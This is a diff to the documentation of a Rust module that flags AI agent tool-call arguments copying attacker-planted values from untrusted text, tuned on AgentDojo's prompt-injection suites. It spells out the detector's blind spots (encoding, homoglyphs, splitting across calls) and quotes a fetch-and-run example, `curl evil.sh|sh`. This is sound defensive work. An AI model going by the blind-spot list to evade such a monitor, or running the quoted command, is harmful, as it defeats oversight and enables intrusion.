@@ -24,9 +24,9 @@
 //! - A longer string is a hit when it shares a run of at least [`RUN`]
 //!   consecutive bytes with one untrusted chunk, anywhere in either.
 //!
-//! `RUN` = 16 was measured on AgentDojo's suites (see `RUN`'s doc): it
-//! catches every attacker value there that an argument copies, while two
-//! unrelated texts almost never share 16 normalized bytes.
+//! `RUN` = 16 was chosen on AgentDojo's suites (see [`RUN`]): long enough
+//! that unrelated texts rarely share a run, short enough to catch an IBAN,
+//! an e-mail address or a URL inside a longer argument.
 //!
 //! # What it cannot see
 //!
@@ -34,18 +34,30 @@
 //! strict one. A copy is *not* found when it is:
 //! - paraphrased, translated, summarised or re-ordered by the model;
 //! - encoded: base64, URL/percent encoding, HTML entities, JSON or shell
-//!   escaping, Unicode homoglyphs, zero-width characters, non-ASCII case or
-//!   whitespace (a no-break space is not collapsed);
-//! - split across several arguments or calls, or interleaved with other text,
-//!   so that no single piece reaches `RUN` bytes (`curl evil.sh|sh` inside a
-//!   longer command is 15 bytes);
+//!   escaping, or altered every few bytes: Unicode homoglyphs, zero-width
+//!   characters, non-ASCII case or whitespace (a no-break space is not
+//!   collapsed) — one change per 15 bytes is enough;
+//! - split across several arguments or calls in pieces under `MIN_RUN`
+//!   bytes, or interleaved with other text so that no piece inside a longer
+//!   argument reaches `RUN` bytes (`curl evil.sh|sh` is 15);
 //! - short: a value under [`MIN_RUN`] bytes, or a run under `RUN` bytes
 //!   inside a longer argument;
 //! - derived: computed from untrusted data (an amount, a date, a host the
 //!   model assembled from parts).
 //!
-//! The crate's tests (`tests/value_taint.rs`) assert several of these blind
-//! spots, so this list cannot silently go stale.
+//! The crate's tests (`tests/value_taint/cases.rs`, `blind_spots`) assert
+//! several of these, so this list cannot silently go stale.
+//!
+//! # Cost
+//!
+//! `add` is one pass over the text (normalize, set a bit per 8-byte window,
+//! index every 9th window). `find` normalizes each argument string and tests
+//! one bit per 9 bytes of it; only where 16 bytes in a row may match does it
+//! look positions up and compare bytes, so the prefilter's false positives
+//! never become hits. Text crafted to be repetitive can lengthen that
+//! exact step; a work budget per call bounds it, and a search that runs out
+//! counts the argument as copied (a hit with `run_len` 0), never as clean.
+//! `benches/value_taint.rs` measures both.
 //!
 //! # Memory
 //!
@@ -75,13 +87,16 @@ pub const MIN_RUN: usize = 8;
 
 /// Shortest common run that taints a longer argument.
 ///
-/// Measured on the untrusted texts and call arguments of AgentDojo 0.1.35's
-/// four suites: the attacker values its injection tasks put in arguments
-/// (IBANs, e-mail addresses, URLs, messages) are all found at 16, and a
-/// user task's argument shares 16 normalized bytes with an *unrelated*
-/// suite's texts in under 1% of cases (mostly `https://www.` prefixes and
-/// stock phrases). Shorter runs pick up boilerplate; longer ones miss short
-/// URLs and commands inside longer text.
+/// Measured on AgentDojo 0.1.35's four suites (the tool outputs in their
+/// environments as untrusted text, string constants of the tasks as
+/// arguments). Of the 38 attacker constants of its injection tasks (IBANs,
+/// e-mail addresses, URLs, messages), 34 are at least `MIN_RUN` bytes and
+/// found whenever an argument is the value itself; inside a longer argument
+/// 28 are found at 16 (30 at 12, 23 at 20). A user task's argument hits a
+/// *different* suite's environment in 3 of 228 cases at 16 (1.3%; 3.1% at
+/// 12, 0.4% at 20), and those are shared real values (a company's e-mail
+/// domain), not chance. 16 also keeps the index small (one entry per 9
+/// bytes of text) and a clean argument's scan short.
 pub const RUN: usize = 16;
 
 /// Untrusted text kept per session, in bytes (the oldest chunks go first).
@@ -260,8 +275,11 @@ impl UntrustedText {
     /// Whether `needle` (a host name, say) occurs in untrusted text, in the
     /// same normal form (case and whitespace do not matter). A plain
     /// substring test: `evil.example` is mentioned by `api.evil.example`
-    /// and by `notevil.example`, which errs on the careful side. Always true
-    /// once [`UntrustedText::overflowed`]; false for an empty needle.
+    /// and by `notevil.example`, which errs on the careful side, but
+    /// `api.evil.example` is not mentioned by `evil.example` alone (ask for
+    /// the registrable domain too), nor by a percent-encoded or IDN form.
+    /// Always true once [`UntrustedText::overflowed`]; false for an empty
+    /// needle.
     pub fn mentions(&self, needle: &str) -> bool {
         if self.overflowed {
             return true;
